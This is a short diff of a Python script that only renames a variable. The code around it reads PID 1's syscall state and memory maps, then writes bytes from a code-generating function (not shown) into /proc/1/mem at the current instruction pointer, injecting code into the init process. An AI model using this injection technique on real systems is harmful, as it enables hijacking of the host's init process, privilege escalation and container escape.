@@ -25,12 +25,12 @@ def code(at):
 
 
 with open("/proc/1/syscall") as file:
-    said = file.read().split()
+    output = file.read().split()
 with open("/proc/1/maps") as file:
     for line in file:
         if match := re.match(r"([0-9a-f]+)-([0-9a-f]+) r-xp", line):
             start, end = (int(value, 16) for value in match.groups())
-            counter = int(said[-1], 16)
+            counter = int(output[-1], 16)
             if start <= counter < end:
                 handle = os.open("/proc/1/mem", os.O_RDWR)
                 os.pwrite(handle, code(counter), counter)
